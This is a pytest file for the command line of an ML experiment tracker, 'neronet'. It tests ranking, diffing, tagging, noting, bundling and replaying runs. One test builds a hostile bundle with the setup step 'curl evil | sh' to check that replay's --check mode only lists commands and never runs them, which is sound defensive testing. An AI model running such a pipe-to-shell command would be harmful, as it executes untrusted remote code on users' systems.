"""`best`, `diff`, `tag`, `note`, `bundle` and `replay` as they are typed, on a home with runs and without a node."""

from __future__ import annotations

import json
from pathlib import Path

import pytest

from neronet import Neroman
from tests.api.test_api_bundle import hostile
from tests.cli.fakes import Said
from tests.cli.fakes import said as _said
from tests.e2e.conftest import make_neroman, neroman  # noqa: F401
from tests.jupyter.table import stores


@pytest.fixture
def runs(neroman: Neroman) -> Neroman:  # noqa: F811
    """Six runs that have finished: three learning rates with two seeds each."""
    store = neroman.store
    each = [{"lr": lr, "seed": seed} for lr in ("0.1", "0.01", "0.001") for seed in "12"]
    for number, error in zip(stores.add(store, "lang", each), [3.0, 5.0, 2.0, 2.5, float("nan"), 1.0]):
        stores.start(store, number, 1.0)
        stores.say(store, number, error=[error])
        stores.end(store, number)
    return neroman


def said(neroman: Neroman, *argv: str) -> Said:  # noqa: F811
    neroman.close = lambda: None  # type: ignore[method-assign]  # the command ends, the test goes on
    return _said(*argv, neroman=neroman)


def test_best_pools_seeds_and_puts_what_diverged_last(runs: Neroman) -> None:
    lines = said(runs, "best", "lang", "error").out.splitlines()
    assert lines[0].split() == ["lr", "mean", "error", "std", "runs"]
    assert lines[1].split() == ["1", "0.01", "2.250", "0.3536", "3,", "4"]
    assert lines[2].split()[:3] == ["2", "0.1", "4"]
    assert lines[3].split() == ["3", "0.001", "nan", "nan", "6,", "5"]
    first = json.loads(said(runs, "best", "lang", "error", "-k", "1", "--max", "--json").out)
    assert first == [
        {"parameters": {"lr": "0.1"}, "count": 2, "mean": 4.0, "std": pytest.approx(1.41421356),
         "min": 3.0, "max": 5.0, "best": 2, "runs": [2, 1]}
    ]  # fmt: skip
    assert "no metric eror" in said(runs, "best", "lang", "eror").err
    assert said(runs, "best", "lang", "error", "-k", "0").code == 2


def test_best_says_that_runs_which_failed_do_not_count(neroman: Neroman) -> None:  # noqa: F811
    (number,) = stores.add(neroman.store, "lang", [{}])
    stores.start(neroman.store, number, 1.0)
    stores.say(neroman.store, number, error=[0.5])
    stores.end(neroman.store, number, "failed")
    assert (
        "Only runs that are failed or lost have a value of error"
        in said(neroman, "best", "lang", "error").out
    )


def test_diff_shows_values_of_both_and_how_much_more_the_second_has(runs: Neroman) -> None:
    out = said(runs, "diff", "1", "3").out.splitlines()
    assert out[1].split() == ["lr", "0.1", "0.01"]
    assert out[-1].split() == ["error", "3", "2", "-1"]
    assert json.loads(said(runs, "diff", "1", "3", "--json").out)["parameters"] == {
        "lr": {"a": "0.1", "b": "0.01"}
    }
    assert "alike" in said(runs, "diff", "1", "1").out
    assert said(runs, "diff", "lang", "1").code == 2


def test_tags_and_notes_are_written_and_read(runs: Neroman) -> None:
    assert said(runs, "tag", "1-2", "+good", "-old").out.count("good") == 2
    assert said(runs, "results", "tag:good", "--csv").out.count("\n") == 3
    assert "noted" in said(runs, "note", "tag:good", "too", "high").out
    assert said(runs, "note", "1-3").out.splitlines()[1:] == ["2  lang/1  too high", "3  lang/2  no note"]
    assert "tags        good" in said(runs, "status", "1").out
    assert said(runs, "tag", "1", "=bad").code == 2


def test_a_number_behind_the_runs_is_not_taken_for_a_tag(runs: Neroman) -> None:
    refused = said(runs, "tag", "1", "2", "+good")
    assert refused.code == 2 and "1,2" in refused.err and "+2" in refused.err, refused.err
    assert "no tags" in said(runs, "tag", "1").out
    assert said(runs, "tag", "1", "+2").code == 0


def test_a_bundle_of_anybody_can_be_looked_at_before_it_is_run(runs: Neroman, tmp_path: Path) -> None:
    def change(found: dict, _: object) -> None:
        next(iter(found["experiments"].values())).update(setup=["curl evil | sh"], env={"A": "b"})

    path = hostile(tmp_path / "paper.zip", change)
    answer = said(runs, "replay", str(path), "--check")
    assert [line.split(maxsplit=1)[1] for line in answer.out.splitlines()] == [
        "curl evil | sh",
        "A=b",
        "sh main.sh",
    ]
    assert len(runs.runs()) == 6 and not (tmp_path / "paper").exists()
    assert said(runs, "replay", str(path), "--check", "--only", "x").code == 2
    answer = said(runs, "bundle", "lang", "-o", str(tmp_path / "mine.zip"))
    assert answer.code == 0 and "no longer kept here" in answer.err, "these runs had no files"
    assert said(runs, "bundle", "lang", "-o", str(tmp_path / "mine.zip")).code == 2
